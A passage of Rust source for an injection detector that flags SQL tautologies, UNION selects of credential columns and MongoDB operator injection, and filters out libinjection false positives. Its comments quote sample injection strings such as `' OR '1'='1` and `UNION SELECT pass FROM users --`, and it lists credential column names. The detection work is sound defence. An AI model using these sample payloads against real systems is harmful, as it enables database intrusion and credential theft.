            || argument
            || other_collection
            || (parameter && parent.is_some() && !filter_op)
            || (json_path.is_some() && parent == Some("") && !matches!(op, "$and" | "$or"))
            || parent.is_some_and(|key| guards_access(key, op));
        let rule = if strict { SQLI_NOSQL } else { SQLI_NOSQL_LOOSE };
        sink.hit(rule, v.lower(), 0);
    }
}

impl Sqli {
    /// What an injection leaves in a whole read statement, or a filter expression, that its
    /// own shape does not explain: `OR` with two literals whose comparison holds (`WHERE
    /// device='d-17' OR 1=1`, `sid = '' OR ''=''`, `OR (2>1)`, `OR 'a'<>'b'`; `WHERE 1=1 AND
    /// …`, a query builder's habit, is no `OR`), and `UNION`
    /// selecting a credential ([`CREDENTIAL_COLUMNS`]).
    /// Whether `lower` compares a name with something ([`Sqli::name_comparison`]), and never
    /// a name with itself.
    fn names_compared(&self, lower: &str) -> bool {
        let mut any = false;
        for c in self.name_comparison.captures_iter(lower) {
            if c.get(2)
                .is_some_and(|right| Some(right.as_str()) == c.get(1).map(|l| l.as_str()))
            {
                return false;
            }
            any = true;
        }
        any
    }

    fn statement_injection(&self, lower: &str, sink: &mut Sink<'_>) {
        let tautology = self.statement_tautology.captures_iter(lower).find(|c| {
            let text = |i: usize| c.get(i).map_or("", |m| m.as_str());
            c.get(4).is_some()
                || c.get(5).is_some()
                || (c.get(1).is_some() && literals_hold(text(1), text(2), text(3)))
        });
        if let Some(c) = tautology {
            sink.hit(SQLI_TAUTOLOGY, lower, c.get(0).map_or(0, |m| m.start()));
        }
        let credential = self.union_select.captures_iter(lower).find(|c| {
            c.get(1).is_some_and(|list| {
                list.as_str()
                    .split(|ch: char| !(ch.is_ascii_alphanumeric() || ch == '_'))
                    .any(|w| {
                        // The name, or its last part (`user_password`, not `prompt_tokens`).
                        let last = w.rsplit('_').next().unwrap_or(w);
                        CREDENTIAL_COLUMNS.contains(&w) || CREDENTIAL_COLUMNS.contains(&last)
                    })
            })
        });
        if let Some(c) = credential {
            sink.hit(SQLI_UNION, lower, c.get(0).map_or(0, |m| m.start()));
        }
    }
}

/// Whether the comparison of two literals holds (`2>1`, `'a'<>'b'`, `1 eq 1`, `'1'=1`):
/// numbers by value (a quoted number too), strings byte by byte; `LIKE` by its `%` and `_`.
fn literals_hold(a: &str, op: &str, b: &str) -> bool {
    use std::cmp::Ordering::{Equal, Greater, Less};
    let (a, b) = (a.trim_matches(['\'', '"']), b.trim_matches(['\'', '"']));
    // Digits with at most one dot: `nan` and `inf` parse as floats but are strings here.
    let number = |t: &str| {
        (!t.is_empty() && t.bytes().all(|c| c.is_ascii_digit() || c == b'.'))
            .then(|| t.parse::<f64>().ok())
            .flatten()
    };
    let order = match (number(a), number(b)) {
        (Some(x), Some(y)) => x.partial_cmp(&y),
        _ => Some(a.cmp(b)),
    };
    match (op, order) {
        ("like" | "ilike", _) => like(a.as_bytes(), b.as_bytes()),
        (_, None) => false,
        ("=" | "==" | "<=>" | "eq", Some(o)) => o == Equal,
        ("<>" | "!=" | "ne", Some(o)) => o != Equal,
        ("<" | "lt", Some(o)) => o == Less,
        ("<=" | "le", Some(o)) => o != Greater,
        (">" | "gt", Some(o)) => o == Greater,
        (">=" | "ge", Some(o)) => o != Less,
        _ => false,
    }
}

/// SQL's `LIKE` of `text` against `pattern`: `%` any run, `_` one byte. One row of a table
/// per pattern byte (work in the product of the lengths, at most 42 × 42 here).
fn like(text: &[u8], pattern: &[u8]) -> bool {
    // `row[i]`: the pattern read so far matches the first `i` bytes of `text`.
    let mut row = vec![false; text.len() + 1];
    row[0] = true;
    for &p in pattern {
        let mut next = vec![false; text.len() + 1];
        for i in 0..=text.len() {
            next[i] = match p {
                b'%' => row[i] || (i > 0 && next[i - 1]),
                _ => i > 0 && row[i - 1] && (p == b'_' || p == text[i - 1]),
            };
        }
        row = next;
    }
    row[text.len()]
}

/// Names of columns that hold credentials (lower case).
const CREDENTIAL_COLUMNS: &[&str] = &[
    "access_token",
    "api_key",
    "apikey",
    "auth_token",
    "client_secret",
    "pass",
    "pass_hash",
    "passwd",
    "password",
    "password_hash",
    "passwordhash",
    "pwd",
    "refresh_token",
    "secret",
    "token",
];

/// JavaScript rather than a filter language: a member of `this`, a function, a statement, or
/// JavaScript's comparison and boolean operators (SoQL and OData write `=`, `AND`, `OR`).
fn script_expression(s: &str) -> bool {
    [
        "this.", "this[", "function", "=>", "==", "||", "&&", "sleep(", "return", ";",
    ]
    .iter()
    .any(|t| s.contains(t))
}

/// MongoDB's query operators, and its update operators (`$set`, `$inc`, ...: a body that is
/// an update document writes any field it names), sorted.
const NOSQL_OPERATORS: &[&str] = &[
    "$accumulator",
    "$addtoset",
    "$all",
    "$and",
    "$currentdate",
    "$elemmatch",
    "$eq",
    "$exists",
    "$expr",
    "$function",
    "$graphlookup",
    "$gt",
    "$gte",
    "$in",
    "$inc",
    "$jsonschema",
    "$lookup",
    "$lt",
    "$lte",
    "$merge",
    "$mod",
    "$mul",
    "$ne",
    "$nin",
    "$nor",
    "$not",
    "$or",
    "$out",
    "$pop",
    "$pull",
    "$pullall",
    "$push",
    "$regex",
    "$rename",
    "$set",
    "$setoninsert",
    "$size",
    "$text",
    "$type",
    "$unionwith",
    "$unset",
    "$where",
];

/// Where `s` holds an operator in brackets (`[$ne]`), if it does.
fn bracketed_operator(s: &str) -> Option<usize> {
    // A query string's pair (`user[$ne]=1`, `user[$in][]=a`, `user[$ne]&x=1`, or one that
    // ends the value when the value holds other pairs), or the value's own start
    // (`[$lte]x`); alone at the end, an API's own syntax names a field
    // (`expand=properties[$all]`).
    let pairs = s.contains(['=', '&']);
    memchr::memmem::find_iter(s.as_bytes(), b"[$")
        .take(64)
        .find(|&at| {
            let inner = &s[at + 1..];
            let Some(close) = inner.bytes().take(32).position(|c| c == b']') else {
                return false;
            };
            let rest = inner[close + 1..].trim_start();
            NOSQL_OPERATORS
                .binary_search(&inner[..close].trim())
                .is_ok()
                && (at == 0 || rest.starts_with(['=', '[', '&']) || (rest.is_empty() && pairs))
        })
}

/// The operator a lower-cased name holds and, for a bracketed name, the key it applies to:
/// `$ne` → (`$ne`, none); `password[$ne]` → (`$ne`, `password`);
/// `filters[user][$eq]` → (`$eq`, `user`).
fn nosql_operator(name: &str) -> Option<(&str, Option<&str>)> {
    let is_op = |s: &str| NOSQL_OPERATORS.binary_search(&s.trim()).is_ok();
    if is_op(name) {
        return Some((name.trim(), None));
    }
    let mut previous = name.split('[').next()?;
    for segment in name.split('[').skip(1) {
        let inner = segment.strip_suffix(']').unwrap_or(segment);
        if is_op(inner) {
            return Some((inner.trim(), Some(previous)));
        }
        previous = inner;
    }
    None
}

/// Whether `key` names a secret, a session id among them (any operator on it widens what a
/// login, a reset or a session lookup checks), or a login name or owner (an operator other
/// than an exact match does: `{"owner": {"$gt": ""}}` matches every owner).
fn guards_access(key: &str, op: &str) -> bool {
    let k: String = key
        .chars()
        .filter(|c| !matches!(c, '_' | '-'))
        .flat_map(char::to_lowercase)
        .collect();
    let secret = [
        "password",
        "passwd",
        "passcode",
        "passphrase",
        "pwd",
        "token",
        "secret",
        "apikey",
        "otp",
        // Codes that prove a claim to a device or an account.
        "authcode",
        "claimcode",
        "verificationcode",
        "activationcode",
        "resetcode",
        "recoverycode",
        "securitycode",
        "accesscode",
        // The word in other languages, as forms and APIs name the field.
        "senha",
        "contrasena",
        "contraseña",
        "passwort",
        "kennwort",
        "motdepasse",
        "wachtwoord",
        "haslo",
        "hasło",
        "losenord",
        "lösenord",
        "salasana",
        "sifre",
        "şifre",
        "matkhau",
        "пароль",
        "密码",
        "パスワード",
        "비밀번호",
    ]
    .iter()
    .any(|s| k.ends_with(s))
        // What is kept of a password or secret (`password_sha`, `secret_hash`).
        || ["password", "passwd", "passphrase", "secret"]
            .iter()
            .any(|s| k.starts_with(s))
        || matches!(k.as_str(), "pass" | "pin" | "sid" | "session" | "sessionid")
        || k.starts_with("ssn");
    // Names of the caller, and of whose a record is: the keys an ownership check compares.
    let login = matches!(
        k.as_str(),
        "username"
            | "user"
            | "login"
            | "userid"
            | "owner"
            | "ownerid"
            | "accountid"
            | "tenantid"
            | "usuario"
            | "utilisateur"
            | "benutzer"
            | "benutzername"
            | "kullanici"
            | "gebruiker"
            // A reset's key under its short names (`code` alone is a coupon's or a
            // country's as often).
            | "reset"
            | "resetkey"
    );
    secret || (login && !matches!(op, "$eq" | "$in"))
}

/// Text libinjection's fingerprints flag though it holds nothing SQL could be made of:
/// arithmetic, a search box's boolean query, a file name.
fn libinjection_misreads(norm: &str) -> bool {
    plain_number_text(norm)
        || search_expression(norm)
        || plain_file_name(norm)
        || aggregate_of_column(norm)
        || metric_query(norm)
        || css_variables(norm)
}

/// CSS that reads custom properties (`var(--wp--preset--color--brand)`, a theme's style
/// settings): libinjection reads each `--` as a comment. Only when every `--` is inside a
/// `var(--name` and the text has no quote, `;` or `#`.
fn css_variables(s: &str) -> bool {
    if !s.contains("var(--") || s.contains(['\'', '"', ';', '#']) {
        return false;
    }
    let mut rest = s;
    let mut plain = String::new();
    while let Some(at) = rest.find("var(--") {
        plain.push_str(&rest[..at]);
        let name = &rest[at + 6..];
        let end = name
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
            .unwrap_or(name.len());
        rest = &name[end..];
    }
    plain.push_str(rest);
    // Outside the references, CSS: no comment that could hide SQL, no SQL word.
    let sql_word = plain
        .split(|c: char| !c.is_ascii_alphanumeric() && c != '_')
        .any(|w| {
            [
                "and", "or", "xor", "union", "select", "from", "where", "having", "sleep",
            ]
            .iter()
            .any(|k| w.eq_ignore_ascii_case(k))
        });
    !plain.contains("--") && !plain.contains("/*") && !sql_word
}

/// A Prometheus or Loki query, or metrics in Prometheus's text format: series selected by
/// label matchers (`node_filesystem_avail_bytes{fstype!~"tmpfs",mountpoint="/"} > 85`,
/// `{app="nginx"} |= "error"`), which libinjection reads as SQL's operators and brackets.
/// The whole text must read as one: outside double-quoted strings and matchers only names,
/// numbers, durations, brackets and the languages' operators, no SQL statement word, no `=`
/// alone (PromQL compares with `==`), no `'`, `;`, `--` or `/*`, and `#` only opening a
/// comment line (whose text is not read).
fn metric_query(s: &str) -> bool {
    const SQL_WORDS: &[&str] = &[
        "benchmark",
        "case",
        "delete",
        "drop",
        "exec",
        "from",
        "having",
        "insert",
        "into",
        "like",
        "null",
        "select",
        "sleep",
        "union",
        "update",
        "waitfor",
        "when",
        "where",
    ];
    if s.contains(['\'', ';']) || s.contains("--") || s.contains("/*") {
        return false;
    }
    let mut selector = false;
    for line in s.lines() {
        let l = line.trim_start();
        if l.starts_with('#') {
            continue;
        }
        let b = l.as_bytes();
        let mut i = 0;
        let mut braces = 0usize;
        while i < b.len() {
            let c = b[i];
            match c {
                b'"' | b'`' => {
                    // A string, escapes and all.
                    i += 1;
                    while i < b.len() && b[i] != c {
                        i += if b[i] == b'\\' { 2 } else { 1 };
                    }
                }
                b'{' => {
                    braces += 1;
                    selector |= matcher_follows(&b[i + 1..]);
                }
                b'}' => braces = braces.saturating_sub(1),
                b'#' => return false,
                b'=' if braces == 0 => {
                    let before = i.checked_sub(1).map(|j| b[j]);
                    let after = b.get(i + 1).copied();
                    if !matches!(before, Some(b'=' | b'!' | b'<' | b'>' | b'|'))
                        && !matches!(after, Some(b'=' | b'~'))
                    {
                        return false;
                    }
                }
                _ if braces == 0 && c.is_ascii_alphabetic() => {
                    let end = b[i..]
                        .iter()
                        .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_' || *c == b':'))
                        .map_or(b.len(), |n| i + n);
                    let word = l[i..end].to_ascii_lowercase();
                    if SQL_WORDS.binary_search(&word.as_str()).is_ok() {
                        return false;
                    }
                    i = end;
                    continue;
                }
                _ => {}
            }
            i += 1;
        }
    }
    selector
}

/// Whether a label matcher (`name="`, `name!~"`, ...) opens the text after a `{`.
fn matcher_follows(b: &[u8]) -> bool {
    let b = b.trim_ascii_start();
    let name = b
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    if name == 0 || b[0].is_ascii_digit() {
        return false;
    }
    let rest = b[name..].trim_ascii_start();
    [&b"=~"[..], b"!~", b"!=", b"="]
        .iter()
        .find(|op| rest.starts_with(op))
        .is_some_and(|op| rest[op.len()..].trim_ascii_start().starts_with(b"\""))
}

/// An aggregate of one column or of every row, alone (`sum(cost)`, `COUNT(*)`,
/// `max(order.total)`): a report API's select list. An argument that is a number or holds
/// anything but a name (`sleep(5)` in a numeric context) stays libinjection's.
fn aggregate_of_column(s: &str) -> bool {
    let Some((func, rest)) = s.trim().split_once('(') else {
        return false;
    };
    let Some(arg) = rest.strip_suffix(')') else {
        return false;
    };
    let arg = arg.trim();
    ["sum", "count", "avg", "min", "max"]
        .iter()
        .any(|f| func.trim_end().eq_ignore_ascii_case(f))
        && (arg == "*"
            || (arg.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                && arg
                    .bytes()
                    .all(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'.')))
}

/// Search syntax rather than a string breakout (`title:"foo bar" AND year>2000`): the quote at
/// `at` closes a phrase the value itself opened (at its start or after a space, `:`, `(` or
/// `=`), and the comparison after the operator is a field against something else, not two
/// literals (`1=1`, `'a'='a'`) nor a field against itself (`x=x`). `left` is the comparison's
/// left operand and `end` where the comparison operator ends.
fn closes_search_phrase(b: &[u8], at: usize, end: usize, left: regex::bytes::Match<'_>) -> bool {
    let q = b[at];
    let opened = b[..at].iter().filter(|&&c| c == q).count() % 2 == 1;
    let Some(open) = memchr::memrchr(q, &b[..at]) else {
        return false;
    };
    let left = left.as_bytes();
    let field = left
        .first()
        .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_');
    let right = b[end..].trim_ascii_start();
    let itself = right.starts_with(left)
        && right
            .get(left.len())
            .is_none_or(|c| !c.is_ascii_alphanumeric() && *c != b'_');
    opened && (open == 0 || matches!(b[open - 1], b' ' | b':' | b'(' | b'=')) && field && !itself
}

/// A search box's boolean query: words, `"quoted phrases"`, `field:` prefixes and brackets
/// joined by `AND`, `OR` and `NOT` written in capitals (or a lone `&` for `AND`), as search
/// engines ask (`(jacket OR parka) AND waterproof NOT "faux fur"`). libinjection reads the operators as
/// SQL's. Such text has no operand SQL could compare (no number alone, no `=`, `<`, `>`), no
/// quote but a phrase's, no comment, `;` or statement word: nothing to inject with.
fn search_expression(s: &str) -> bool {
    if !(s.contains("OR") || s.contains("AND") || s.contains("NOT"))
        || s.len() > 256
        || s.bytes().any(|b| b"=<>;#/\\`'|@$%{}[]".contains(&b))
        || s.contains("--")
    {
        return false;
    }
    let mut depth = 0i32;
    let mut operators = 0;
    let mut in_phrase = false;
    let mut word_start = None;
    let mut word_ok = |w: &str| -> bool {
        match w {
            "AND" | "OR" | "NOT" | "&" => {
                operators += 1;
                true
            }
            _ if w.contains('&') => false,
            _ => {
                let term = w.rsplit(':').next().unwrap_or(w);
                let letters = term.bytes().filter(u8::is_ascii_alphabetic).count()
                    + term
                        .chars()
                        .filter(|c| !c.is_ascii() && c.is_alphabetic())
                        .count();
                letters >= 2 && !STATEMENT_WORDS.iter().any(|k| term.eq_ignore_ascii_case(k))
            }
        }
    };
    for (i, c) in s.char_indices() {
        if in_phrase {
            in_phrase = c != '"';
            continue;
        }
        let boundary = c.is_whitespace() || matches!(c, '(' | ')' | '"');
        if boundary {
            if let Some(st) = word_start.take()
                && !word_ok(&s[st..i])
            {
                return false;
            }
            match c {
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth < 0 {
                        return false;
                    }
                }
                '"' => in_phrase = true,
                _ => {}
            }
        } else if word_start.is_none() {
            word_start = Some(i);
        }
    }
    if let Some(st) = word_start
        && !word_ok(&s[st..])
    {
        return false;
    }
    !in_phrase && depth == 0 && operators > 0
}

/// Hex digits that spell printable ASCII text with a letter in it (`61646d696e`, `admin`),
/// as an attacker's string does; masks and hashes (`ffff00`, `deadbeef`) do not.
fn spells_text(hex: &[u8]) -> bool {
    if hex.len() % 2 == 1 {
        return false;
    }
    let digit = |c: u8| (c as char).to_digit(16).unwrap_or(0);
    let bytes = hex.chunks_exact(2).map(|p| digit(p[0]) << 4 | digit(p[1]));
    let mut letter = false;
    for b in bytes {
        if !(0x20..0x7f).contains(&b) {
            return false;
        }
        letter |= char::from_u32(b).is_some_and(|c| c.is_ascii_alphabetic());
    }
    letter
}

/// Phone numbers, dates, amounts, arithmetic: digits with `()+-*/%^.:,;=` and spaces, symbols
/// outside ASCII that are not letters (`≈ ± √ ² ×`), and as words only single letters and the
/// names of maths functions (`sqrt(2) ≈ 1.414`, `2x + 3y`, `ln(e^2) = 2`), with no comment
/// (`--`, `/*`, `*/`). Without quotes, `<`, `>` or other words there is no SQL to inject (no
/// column, string or SQL function to reach; an `=` compares numbers only), and libinjection's
/// arithmetic fingerprints misfire on values like `(0028)-617555` and `(2.5 * (3 + 4)) / 7`;
/// a comment, though, cuts off the rest of the query it lands in. A `;` between expressions
/// (`sqrt(x^2+y^2);atan2(y,x)`, a calculator's history) stacks nothing but more arithmetic.
fn plain_number_text(s: &str) -> bool {
    const MATHS: [&str; 18] = [
        "abs", "acos", "asin", "atan", "ceil", "cos", "cosh", "exp", "floor", "ln", "log", "pi",
        "round", "sin", "sinh", "sqrt", "tan", "tanh",
    ];
    // Words first: ordinary text fails at its first word.
    !s.is_empty()
        && s.split(|c: char| !c.is_ascii_alphabetic())
            .filter(|w| !w.is_empty())
            .all(|w| w.len() == 1 || MATHS.iter().any(|m| m.eq_ignore_ascii_case(w)))
        && s.chars().all(|c| {
            c.is_ascii_alphanumeric()
                || " ()+-*/%^.:,;=".contains(c)
                || !(c.is_ascii() || c.is_alphabetic())
        })
        && !s.contains("--")
        && !s.contains("/*")
        && !s.contains("*/")
}

/// `s` with every comment that sits between two letters taken out (`un/**/ion` → `union`),
/// or `None` when there is none.
fn comments_joined(s: &str) -> Option<String> {
    let b = s.as_bytes();
    let mut out = String::new();
    let mut copied = 0;
    let mut from = 0;
    while let Some(at) = memchr::memmem::find(&b[from..], b"/*").map(|i| i + from) {
        let Some(close) = memchr::memmem::find(&b[at + 2..], b"*/").map(|i| i + at + 4) else {
            break;
        };
        let glued = at > 0
            && b[at - 1].is_ascii_alphabetic()
            && b.get(close).is_some_and(u8::is_ascii_alphabetic);
        if glued {
            out.push_str(&s[copied..at]);
            copied = close;
        }
        from = close;
    }
    (copied > 0).then(|| {
        out.push_str(&s[copied..]);
        out
    })
}

/// A file name as people and browsers write them: words in any script, digits, spaces and
/// `_-.,&+`, a copy number in brackets, and an extension (`beach day (1).jpg`). libinjection
/// reads `day (1)` as a function call; with no quote, comparison or comment there is no SQL.
fn plain_file_name(s: &str) -> bool {
    let Some((stem, ext)) = s.rsplit_once('.') else {
        return false;
    };
    let mut in_brackets = false;
    (1..=5).contains(&ext.len())
        && ext.bytes().all(|b| b.is_ascii_alphanumeric())
        && !stem.trim().is_empty()
        && stem.chars().all(|c| match c {
            '(' if !in_brackets => {
                in_brackets = true;
                true
            }
            ')' if in_brackets => {
                in_brackets = false;
                true
            }
            c if in_brackets => c.is_ascii_digit(),
            c => c.is_alphanumeric() || " _-.,&+".contains(c),
        })
        && !in_brackets
}

/// Parameters that carry a filter language by API convention: OData's system query options,
/// Jira's JQL, SCIM's filter, GeoServer's CQL filter, Socrata's SoQL `$where` and `$having`,
/// and the expression fields of low-code tools and automations (`condition`, `expr`,
/// `expression`: `status != 'closed' AND priority >= 2`).
const FILTER_PARAMS: &[&str] = &[
    "$apply",
    "$filter",
    "$having",
    "$orderby",
    "$search",
    "$where",
    "condition",
    "cql_filter",
    "expr",
    "expression",
    "filter",
    "formula",
    "jql",
    "rule",
    "when",
];

/// Ends of longer parameter names that carry a filter (`filterExpression`, `searchFilter`).
const FILTER_SUFFIXES: &[&str] = &["expression", "filter"];

/// Parameters that carry a whole SQL statement on the endpoints made to run one (a JSON
/// field, a query parameter, a form field, or the body itself).
const STATEMENT_PARAMS: &[&str] = &["body", "q", "query", "sql", "statement", "stmt"];

/// Ends of longer parameter names that carry one (`select_query`, `nativeSql`).
const STATEMENT_SUFFIXES: &[&str] = &["query", "sql", "statement"];

/// The words a read statement starts with.
const READ_WORDS: &[&str] = &["describe", "explain", "select", "show", "with"];

/// Words that write, run or wait, and `into` (`SELECT … INTO OUTFILE`): no read has them
/// outside its strings.
const WRITE_WORDS: &[&str] = &[
    "alter",
    "benchmark",
    "call",
    "create",
    "delete",
    "drop",
    "exec",
    "execute",
    "grant",
    "insert",
    "into",
    "merge",
    "replace",
    "shutdown",
    "sleep",
    "truncate",
    "update",
    "waitfor",
];

/// Words that no filter language has outside its strings and every SQL injection needs one of.
const STATEMENT_WORDS: &[&str] = &[
    "benchmark",
    "delete",
    "drop",
    "exec",
    "execute",
    "from",
    "having",
    "insert",
    "select",
    "shutdown",
    "sleep",
    "union",
    "update",
    "waitfor",
];

/// Whether `s` reads as a filter expression on its own: every quoted string opens where a
/// token may start (after the start, a space, `(`, `,`, `[` or an operator) and closes where
/// one may end (before the end, a space, `)`, `,` or `]`), with doubled quotes and backslash
/// escapes inside; brackets balance; and outside the strings there is no `;`, comment, back
/// tick or [`STATEMENT_WORDS`] word. `Name eq 'O''Neil' and Price gt 20` is one;
/// `x' or '1'='1` (a string that starts mid-word) and `1 union select 2` are not.
fn filter_expression(s: &str) -> bool {
    well_formed(s, false).is_some()
}

/// Whether `s` is one read statement on its own: [`READ_WORDS`] first, then what
/// [`filter_expression`] allows, but with [`WRITE_WORDS`] as the words it must not have,
/// back-ticked identifiers read as quoted ones, and `.` and `::` beside quotes
/// (`"hive"."web"`, `'2024-01-01'::date`); one `;` may end it. `SELECT host, count()
/// FROM logs WHERE level = 'error' GROUP BY host` is one; `SELECT 1; DROP TABLE t`, `SELECT
/// a FROM t -- x` and `SELECT * INTO OUTFILE '/tmp/x' FROM t` are not.
fn read_statement(s: &str) -> bool {
    let s = s.trim();
    let s = s.strip_suffix(';').unwrap_or(s).trim_end();
    let first = s
        .split(|c: char| c.is_ascii_whitespace())
        .next()
        .unwrap_or_default();
    let needs_from = ["select", "with"]
        .iter()
        .any(|w| w.eq_ignore_ascii_case(first));
    s.len() > first.len()
        && READ_WORDS.iter().any(|w| w.eq_ignore_ascii_case(first))
        && well_formed(s, true).is_some_and(|from| from || !needs_from)
}

/// The scan behind [`filter_expression`] and [`read_statement`] (`statement`): `None` when
/// `s` is not well formed, else whether a `FROM` stands outside its strings. In a statement
/// a string's content must be a value: no comparison, `;`, `&`, `||`, `--` or `/*` and
/// none of [`STRING_WORDS`] in it (a regular expression's `|` and a channel's `#` may be). A value that starts inside the application's own string has its
/// quotes read the other way round (`select from ' UNION SELECT pass FROM users -- '`), and
/// what the application will run is then what this scan reads as strings.
fn well_formed(s: &str, statement: bool) -> Option<bool> {
    let b = s.as_bytes();
    let mut depth = 0usize;
    let mut i = 0;
    // Start of the word being read: words are compared where they stand, not copied.
    let mut word = 0;
    let forbidden = if statement {
        WRITE_WORDS
    } else {
        STATEMENT_WORDS
    };
    let in_list =
        |list: &[&str], w: &[u8]| list.iter().any(|k| k.as_bytes().eq_ignore_ascii_case(w));
    let beside_quote: &[u8] = if statement { b".:" } else { b"" };
    let mut from = false;
    let boundary_before = |i: usize| {
        b[..i].last().is_none_or(|c| {
            c.is_ascii_whitespace() || b"(,[=<>!~:".contains(c) || beside_quote.contains(c)
        })
    };
    // Whether a string's content reads as code rather than a value.
    let code = |text: &[u8]| {
        text.iter().any(|c| b";=<>&".contains(c))
            || [&b"--"[..], b"/*", b"||"]
                .iter()
                .any(|m| memchr::memmem::find(text, m).is_some())
            || text
                .split(|c| !c.is_ascii_alphanumeric() && *c != b'_')
                .any(|w| in_list(STRING_WORDS, w))
    };
    while i < b.len() {
        let c = b[i];
        if c.is_ascii_alphanumeric() || c == b'_' {
            i += 1;
            continue;
        }
        let w = &b[word..i];
        if in_list(forbidden, w) || (statement && hex_literal(w)) {
            return None;
        }
        from |= w.eq_ignore_ascii_case(b"from");
        match c {
            b'\'' | b'"' | b'`' if c != b'`' || statement => {
                if !boundary_before(i) {
                    return None;
                }
                let open = i + 1;
                i += 1;
                loop {
                    match b.get(i) {
                        None => return None,
                        Some(b'\\') => i += 2,
                        Some(&q) if q == c && b.get(i + 1) == Some(&c) => i += 2,
                        Some(&q) if q == c => break,
                        Some(_) => i += 1,
                    }
                }
                if statement && code(&b[open..i]) {
                    return None;
                }
                // A filter's literal with a quote that SQL goes on after (`userName eq
                // "admin' OR '1'='1"`) is SQL for a back end that builds its query from the
                // literal; `"27\" Monitor"` and
                // `"O'Brien"` are values.
                if !statement && quote_then_sql(&b[open..i]) {
                    return None;
                }
                let after = b.get(i + 1);
                if !after.is_none_or(|a| {
                    a.is_ascii_whitespace() || b"),]".contains(a) || beside_quote.contains(a)
                }) {
                    return None;
                }
            }
            b'(' | b'[' => depth += 1,
            b')' | b']' => depth = depth.checked_sub(1)?,
            b';' | b'#' | b'`' => return None,
            // Variables (`@@version`), in a statement.
            b'@' if statement => return None,
            b'-' if b.get(i + 1) == Some(&b'-') => return None,
            b'/' if b.get(i + 1) == Some(&b'*') => return None,
            _ => {}
        }
        i += 1;
        word = i;
    }
    // The last word (empty when the text ends on other than a word); a read ends complete,
    // not on `WHERE`, `AND`, a comma or an operator, which an injected fragment leaves for
    // the application's own text to finish.
    let last = &b[word..];
    let open_end = statement
        && (hex_literal(last)
            || in_list(DANGLING_WORDS, last)
            || (last.is_empty() && b.last().is_some_and(|c| b",=<>!(+-*/|&".contains(c))));
    (depth == 0 && !in_list(forbidden, last) && !open_end).then_some(from)
}

/// Whether `lower` has an operator of OData's or SCIM's filters as a word (` eq `, ` sw `,
/// ` co `, ...).
fn filter_words(lower: &str) -> bool {
    let b = lower.as_bytes();
    memchr::memchr_iter(b' ', b).any(|i| {
        b.get(i + 3) == Some(&b' ')
            && matches!(
                &b[i + 1..i + 3],
                b"eq" | b"ne" | b"gt" | b"ge" | b"lt" | b"le" | b"sw" | b"co" | b"ew"
            )
    })
}

/// Whether a quote in `text` is followed (past more quotes, backslashes, brackets and
/// white space) by a comment, `;`, `||`, `UNION`, or `OR`/`AND` and then a quote, a digit or
/// a bracket (`' or '1'='1`, `'or 1=1`): what a value that closes a string goes on with.
/// Prose's possessive (`Farmers' and Merchants' Bank`) goes on with a word.
fn quote_then_sql(text: &[u8]) -> bool {
    memchr::memchr2_iter(b'\'', b'"', text).any(|q| {
        let rest = &text[q..];
        let at = rest
            .iter()
            .position(|c| !matches!(c, b'\'' | b'"' | b'\\' | b')') && !c.is_ascii_whitespace())
            .unwrap_or(rest.len());
        let rest = &rest[at..];
        let word = |w: &[u8]| {
            rest.get(..w.len())
                .is_some_and(|h| h.eq_ignore_ascii_case(w))
                && rest.get(w.len()).is_none_or(|c| !c.is_ascii_alphanumeric())
        };
        let operand = |w: &[u8]| {
            word(w)
                && rest[w.len()..]
                    .iter()
                    .find(|c| !c.is_ascii_whitespace())
                    .is_some_and(|c| {
                        c.is_ascii_digit() || matches!(c, b'\'' | b'"' | b'(' | b'!' | b'@')
                    })
        };
        operand(b"or")
            || operand(b"and")
            || word(b"union")
            || [&b"--"[..], b";", b"#", b"/*", b"||"]
                .iter()
                .any(|m| rest.starts_with(m))
    })
}

/// A hex literal (`0x61646d696e`), which spells a string without quotes.
fn hex_literal(w: &[u8]) -> bool {
    w.len() > 2 && w[..2].eq_ignore_ascii_case(b"0x") && w[2..].iter().all(u8::is_ascii_hexdigit)
}

/// Words that make a string's content code, not a value, in a statement ([`well_formed`]).
const STRING_WORDS: &[&str] = &[
    "and", "from", "having", "like", "null", "or", "order", "select", "sleep", "union", "where",
];

/// Words a statement cannot end on.
const DANGLING_WORDS: &[&str] = &[
    "all", "and", "as", "between", "by", "case", "else", "from", "having", "in", "join", "like",
    "limit", "not", "offset", "on", "or", "select", "then", "union", "when", "where",
];

/// An identifier (a letter, then letters, digits and `_`, such as `order_id`): libinjection
/// reads it as one word token (its quote-prefixed string forms need a quote, and only `.` and
/// `` ` `` split a word), and no one-token fingerprint but `X` (an unparsable token) is on its
/// blacklist, so it cannot flag one.
fn single_word(s: &[u8]) -> bool {
    s.first().is_some_and(u8::is_ascii_alphabetic)
        && s.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')
}

impl Sqli {
    /// libinjection's verdict. `SqliState::detect` directly rather than `detect_sqli`: that
    /// wrapper tokenises and folds the input once more after the verdict only to report the
    /// fingerprint, which nearly doubled the cost of every value (measured: `inspect_timing`).
    /// Text it cannot flag is not handed to it: one word, or words and numbers
    /// ([`SqlWords::inert`]), such as search text (9,400 instructions a value saved).
    fn libinjection(&self, s: &[u8]) -> bool {
        if s.is_empty() || single_word(s) || self.words.as_ref().is_some_and(|w| w.inert(s)) {
            return false;
        }
        let mut state = libinjectionrs::SqliState::new(s, libinjectionrs::SqliFlags::FLAG_NONE);
        state.detect() && !(state.fingerprint_string().starts_with("nf(") && aside_in_prose(s))
    }
}

/// Prose whose second word names a SQL function and is followed by an aside in brackets
/// (`Last year (2023) we grew`, `One quarter (24%) of people`), which libinjection reads as a
/// bare word and a function call (fingerprint `nf(`). Two words side by side are no SQL in
/// any place a value lands (a number, a string, a column name), and the text is letters,
/// digits, spaces and sentence punctuation only: no quote, comparison, comment or `;` to build
/// one with. A function glued to its bracket (`x sleep(5)`) is not an aside.
fn aside_in_prose(s: &[u8]) -> bool {
    let word = |b: &[u8]| {
        b.iter()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
            .count()
    };
    let space = |b: &[u8]| b.iter().take_while(|c| c.is_ascii_whitespace()).count();
    let mut rest = s.trim_ascii_start();
    for _ in 0..2 {
        let w = word(rest);
        let gap = space(&rest[w..]);
